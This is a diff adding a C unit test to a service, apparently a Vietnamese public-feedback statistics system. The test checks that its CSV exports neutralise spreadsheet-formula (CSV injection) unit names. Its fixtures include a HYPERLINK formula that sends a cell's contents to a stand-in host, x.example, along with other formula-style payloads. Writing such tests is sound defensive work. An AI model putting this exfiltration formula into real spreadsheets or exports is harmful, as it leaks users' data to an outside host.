@@ -798,6 +798,77 @@ START_TEST(test_dashboard_served)
 }
 END_TEST
 
+/* Units whose names a spreadsheet would run as formulas (OWASP's CSV
+ * injection): every CSV pakn writes (/v1/stats.csv, the public report's
+ * CSV, paknctl report --csv) gives such a cell a leading single quote and
+ * quotes it. */
+START_TEST(test_csv_formulas)
+{
+	static const char *const want[] = {
+	    "C30,\"'=HYPERLINK(\"\"http://x.example/"
+	    "?leak=\"\"&A1,\"\"Bấm\"\")\"",
+	    "C31,\"'+1+1\"",
+	    "C32,\"'-2+3\"",
+	    "C33,\"'@SUM(1+1)\"",
+	    "C34,\"'\tcmd\"",
+	    NULL};
+	char *argv[] = {(char *)paknctl_path(),
+	                "-c",
+	                harness_main()->conf,
+	                "report",
+	                "--month",
+	                "2026-10",
+	                "--unit",
+	                "P03",
+	                "--csv",
+	                NULL};
+	char out[PATH_MAX], *text;
+	struct http_resp r[2];
+
+	PQclear(q("INSERT INTO pakn.unit (code, name, parent_code, kind) "
+	          "VALUES ('P03', 'Tỉnh Công Thức', NULL, 'province'), ('C30', "
+	          "'=HYPERLINK(\"http://x.example/?leak=\"&A1,"
+	          "\"Bấm\")', 'P03', 'commune'), ('C31', '+1+1', 'P03', "
+	          "'commune'), ('C32', '-2+3', 'P03', 'commune'), ('C33', "
+	          "'@SUM(1+1)', 'P03', 'commune'), ('C34', E'\\tcmd', 'P03', "
+	          "'commune')",
+	          NULL));
+	PQclear(q("INSERT INTO pakn.official (unit_code, name, phone, role) "
+	          "VALUES ('P03', 'Lãnh đạo P03', '+84911000031', "
+	          "'leader')",
+	          NULL));
+	PQclear(q("INSERT INTO pakn.api_token (official_id, token_hash) SELECT "
+	          "id, sha256(convert_to('tok-leader-p03', 'UTF8')) FROM "
+	          "pakn.official WHERE phone = '+84911000031'",
+	          NULL));
+	get_as("tok-leader-p03",
+	       "/v1/stats.csv?unit=P03&period=2026-10&by=unit", NULL, &r[0]);
+	http_get(harness_main()->port, "/public/report/2026-10.csv?unit=P03",
+	         &r[1]);
+	harness_path(out, sizeof out, "report-formulas.csv");
+	ck_assert_int_eq(harness_run(argv, out, NULL, 30), 0);
+	text = file_read(out, NULL);
+	ck_assert_ptr_nonnull(text);
+	for (int i = 0; i < 3; i++) {
+		const char *body = i < 2 ? r[i].body : text;
+
+		if (i < 2) {
+			assert_http(&r[i], 200);
+			assert_contains(r[i].ctype, "text/csv");
+		}
+		for (int k = 0; want[k] != NULL; k++)
+			assert_contains(body, want[k]);
+		assert_lacks(body, "\n=");
+		assert_lacks(body, ",=");
+		assert_lacks(body, ",+1");
+		assert_lacks(body, ",@");
+	}
+	http_resp_free(&r[0]);
+	http_resp_free(&r[1]);
+	free(text);
+}
+END_TEST
+
 /* Build the suite, in the order the tests must run. */
 static Suite *
 stats_suite(void)
@@ -819,6 +890,7 @@ stats_suite(void)
 	tcase_add_test(tc, test_dashboard_served);
 	tcase_add_test(tc, test_live_events_and_bc);
 	tcase_add_test(tc, test_rebuild_equals_incremental);
+	tcase_add_test(tc, test_csv_formulas);
 	return s;
 }
 
